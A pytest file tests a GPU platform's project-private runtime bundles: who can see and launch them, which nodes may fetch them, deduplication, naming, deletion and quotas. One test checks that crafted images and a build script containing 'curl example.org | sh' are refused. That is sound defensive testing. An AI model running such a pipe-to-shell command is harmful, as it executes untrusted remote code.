"""Runtimes of a project's own, over HTTP: its editors publish them, its machines get them, and nobody else does."""

import hashlib
import tarfile
import time
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest

from api.server import IMAGES
from api.world import World
from control import catalog
from gpuaas.model.runtime import MOST_BYTES_OF_ITS_IMAGE, MOST_OF_A_PROJECT
from gpuaas.wire import node_request
from runtimes.builds import needs_tools
from runtimes.bundle import Bundle

API = "/api/v1"
pytestmark = needs_tools


class Made:
    """What a build of a recipe of one's own leaves: a manifest, and a real image."""

    def __init__(self, work: Path, slug: str | None = None, version: str = "1.0", **change: Any) -> None:
        bundle = Bundle(work / catalog.new_slug(), slug or catalog.new_slug(), version)
        for name, value in change.items():
            setattr(bundle, name, value)
        file = bundle.write(work / f"{catalog.new_slug()}.tar")
        with tarfile.open(file) as archive:
            read = {each.name: archive.extractfile(each).read() for each in archive}  # type: ignore[union-attr]
        self.slug, self.version = bundle.recipe.name, version
        self.manifest, self.image = msgspec.json.decode(read["manifest.json"]), read["image.erofs"]
        self.digest = hashlib.sha256(self.image).hexdigest()


class Member:
    """Somebody who asks about the runtimes of a project."""

    def __init__(self, http: httpx.Client, headers: dict[str, str], project: str) -> None:
        self.http, self.headers, self.where = http, headers, f"{API}/projects/{project}"

    def describe(self, manifest: dict[str, Any]) -> httpx.Response:
        return self.http.post(f"{self.where}/runtime-bundles", json={"manifest": manifest}, headers=self.headers)

    def send(self, digest: str, image: bytes) -> httpx.Response:
        return self.http.put(f"{self.where}/runtime-images/{digest}", content=image, headers=self.headers)

    def post(self, id: str, verb: str) -> httpx.Response:
        return self.http.post(f"{self.where}/runtime-bundles/{id}/{verb}", headers=self.headers)

    def delete(self, id: str) -> httpx.Response:
        return self.http.delete(f"{self.where}/runtime-bundles/{id}", headers=self.headers)

    def states(self, slug: str) -> list[str]:
        items = self.http.get(f"{self.where}/runtime-bundles", headers=self.headers).json()["items"]
        return [item["state"] for item in items if item["slug"] == slug]

    def publish(self, made: Made) -> httpx.Response:
        described = self.describe(made.manifest)
        assert described.status_code == 201, described.text
        assert self.send(made.digest, made.image).status_code == 200
        return self.post(described.json()["id"], "publish")


@pytest.fixture
def editor(world: World, http: httpx.Client) -> Member:
    return Member(http, world.people["editor"].headers, world.own.project.id)


def test_an_editor_publishes_for_the_project(world: World, http: httpx.Client, editor: Member, tmp_path: Path) -> None:
    """Its members see it, choose it and plan with it; for all others it does not exist, not even among the nearest."""
    made = Made(tmp_path)
    answer = editor.publish(made)
    assert answer.status_code == 200, answer.text
    shown = answer.json()
    assert (shown["state"], shown["scope"], shown["support"]) == ("published", "project", "custom")
    assert shown["project_id"] == world.own.project.id
    assert (IMAGES / "projects" / world.own.project.id / f"{made.digest}.erofs").exists()
    assert not (IMAGES / f"{made.digest}.erofs").exists()
    for name in ("viewer", "admin", "tenant_admin"):
        headers = world.people[name].headers
        assert http.get(f"{API}/runtime-bundles/{made.slug}", headers=headers).json()["id"] == shown["id"], name
        listed = http.get(f"{API}/runtime-bundles?limit=500", headers=headers).json()["items"]
        assert shown["id"] in {item["id"] for item in listed}, name
    for name in ("neighbour", "foreigner", "platform_ops", "platform_builder"):
        headers = world.people[name].headers
        assert http.get(f"{API}/runtime-bundles/{shown['id']}", headers=headers).status_code == 404, name
        unknown = http.get(f"{API}/runtime-bundles/{made.slug}", headers=headers)
        assert (unknown.status_code, made.slug in unknown.json().get("nearest", [])) == (404, False), name
        listed = http.get(f"{API}/runtime-bundles?limit=500&all=true", headers=headers).json()["items"]
        assert shown["id"] not in {item["id"] for item in listed}, name
        for verb in ("publish", "deprecate"):
            answer = http.post(f"{API}/runtime-bundles/{shown['id']}/{verb}", headers=headers)
            assert answer.status_code in (403, 404), name


@pytest.mark.parametrize("route", ["allocations/plan", "allocations"])
def test_nobody_else_launches_with_it(
    world: World, http: httpx.Client, editor: Member, tmp_path: Path, route: str
) -> None:
    made = Made(tmp_path)
    id = editor.publish(made).json()["id"]
    for by in ({"runtime_bundle_id": id}, {"runtime_bundle_slug": made.slug}):
        for who, place, seen in (("editor", world.own, True), ("foreigner", world.foreign, False)):
            body = {"offer": "h100-1", "project": place.project.id, **by}
            if route == "allocations":
                body |= {"name": "gets-it" if "runtime_bundle_id" in by else "gets-it-2"}
            answer = http.post(f"{API}/{route}", json=body, headers=world.people[who].headers)
            assert (answer.status_code == 404) is not seen, answer.text


def test_a_node_gets_it_for_a_machine_of_the_project_only(
    world: World, http: httpx.Client, editor: Member, tmp_path: Path
) -> None:
    made = Made(tmp_path)
    id = editor.publish(made).json()["id"]
    where = node_request.image_path(made.digest)

    def fetched() -> httpx.Response:
        at = int(time.time())
        proof = world.agent.sign(node_request.signed("GET", where, at))
        named = {node_request.NODE: world.agent.node_id, node_request.TIME: str(at), node_request.SIGNATURE: proof}
        return http.get(where, headers=named)

    assert fetched().status_code == 404
    machine = world.own.allocations["active"]
    applied = http.post(
        f"{API}/allocations/{machine}/runtime-bundles", json={"runtime_bundle_id": id}, headers=editor.headers
    )
    assert applied.status_code == 202, applied.text
    assert fetched().content == made.image
    assert http.get(where, headers=world.people["foreigner"].headers).status_code == 401
    assert editor.post(id, "deprecate").status_code == 200
    kept = editor.delete(id)
    assert (kept.status_code, kept.json()["code"]) == (409, "in_use")
    assert (
        http.delete(f"{API}/allocations/{machine}/runtime-bundles/{made.slug}", headers=editor.headers).status_code
        == 202
    )
    assert fetched().status_code == 404


def test_equal_bytes_are_not_shared(world: World, http: httpx.Client, editor: Member, tmp_path: Path) -> None:
    """Who knows the digest of somebody else's image has to bring the image; and cannot spoil what others send."""
    made = Made(tmp_path)
    assert editor.publish(made).status_code == 200
    foreigner = Member(http, world.people["foreigner"].headers, world.foreign.project.id)
    described = foreigner.describe(made.manifest).json()
    assert described["received_bytes"] == 0
    early = foreigner.post(described["id"], "publish")
    assert (early.status_code, early.json()["code"]) == (409, "no_image")
    assert foreigner.send(made.digest, b"x" * len(made.image)).status_code == 422
    assert (IMAGES / "projects" / world.own.project.id / f"{made.digest}.erofs").read_bytes() == made.image
    assert foreigner.publish(made).status_code == 200


def test_a_name_of_the_platform_means_the_platforms(
    world: World, http: httpx.Client, editor: Member, tmp_path: Path
) -> None:
    """It cannot be taken; and where the platform comes later, it wins. Whoever means the other one has its id."""
    taken = catalog.publish(world.store)
    answer = editor.describe(Made(tmp_path, taken.slug, "9").manifest)
    assert (answer.status_code, answer.json()["code"]) == (409, "name_taken")
    made = Made(tmp_path, version="9")
    id = editor.publish(made).json()["id"]
    ours = catalog.publish(world.store, made.slug, "1")
    for name in (made.slug, f"{made.slug}@latest", f"{made.slug}@1"):
        assert http.get(f"{API}/runtime-bundles/{name}", headers=editor.headers).json()["id"] == ours.id, name
    assert http.get(f"{API}/runtime-bundles/{made.slug}@9", headers=editor.headers).status_code == 404
    assert http.get(f"{API}/runtime-bundles/{id}", headers=editor.headers).json()["version"] == "9"


def test_what_was_not_made_by_our_tools_reaches_no_node(editor: Member, tmp_path: Path) -> None:
    """The kernel of a node mounts it: so it has to be, to the byte, what mkfs.erofs makes of files that are allowed."""
    made = Made(tmp_path)
    crafted = bytearray(made.image)
    crafted[1024 + 0x40] ^= 1  # of the superblock: where fsck does not look
    evil = {
        "another file system of the same files": Made(tmp_path, keep_modes=True),
        "no file system": Made(tmp_path, image=b"x" * 8192),
        "a crafted one": Made(tmp_path, image=bytes(crafted)),
        "other files than it says": Made(tmp_path, change_manifest={"files": "0" * 64}),
        "more than it says": Made(tmp_path, change_manifest={"entries": 2}),
        "another script": Made(tmp_path, script="curl example.org | sh\n"),
    }
    for what, each in evil.items():
        answer = editor.publish(each)
        assert (answer.status_code, answer.json()["code"]) == (422, "refused_content"), what
        assert editor.states(each.slug) == ["draft"], what


def test_drafts_and_retired_images_can_be_deleted(world: World, editor: Member, tmp_path: Path) -> None:
    made = Made(tmp_path)
    where = IMAGES / "projects" / world.own.project.id
    draft = editor.describe(made.manifest).json()
    editor.send(made.digest, made.image)
    assert editor.delete(draft["id"]).status_code == 204
    assert (editor.states(made.slug), (where / f"{made.digest}.erofs").exists()) == ([], False)
    id = editor.publish(made).json()["id"]
    assert editor.delete(id).json()["code"] == "not_in_this_state"
    assert editor.post(id, "deprecate").json()["state"] == "deprecated"
    assert editor.delete(id).status_code == 204
    assert (editor.states(made.slug), (where / f"{made.digest}.erofs").exists()) == (["deprecated"], False)
    again = Made(tmp_path, made.slug, script=None, change_manifest={"built_with": "another"}, keep_modes=True)
    assert editor.describe(again.manifest).json()["code"] == "already_there", "a version has one content for ever"


def test_a_project_does_not_fill_the_disk(world: World, http: httpx.Client) -> None:
    """So many versions, and so many bytes: of one, and of all together."""
    neighbour = Member(http, world.people["neighbour"].headers, world.sibling.project.id)
    large = catalog.manifest(catalog.new_slug())
    large["layers"][0]["size"] = MOST_BYTES_OF_ITS_IMAGE + 1
    answer = neighbour.describe(large)
    assert (answer.status_code, answer.json()["code"]) == (422, "too_large")
    slug = catalog.new_slug()
    for number in range(7):
        large = catalog.manifest(slug, f"1.{number}")
        large["layers"][0].update(size=MOST_BYTES_OF_ITS_IMAGE, sha256=f"{number:064x}")
        answer = neighbour.describe(large)
        assert (answer.status_code == 201) is (number < 6), answer.text
    assert answer.json()["code"] == "too_many_runtimes"
    has = http.get(f"{neighbour.where}/runtime-bundles", headers=neighbour.headers).json()["items"]
    for item in has:
        assert neighbour.delete(item["id"]).status_code == 204
    for number in range(MOST_OF_A_PROJECT):
        catalog.publish(world.store, slug, f"2.{number}", project_id=world.sibling.project.id)
    answer = neighbour.describe(catalog.manifest(slug, "3"))
    assert (answer.status_code, answer.json()["code"]) == (409, "too_many_runtimes")
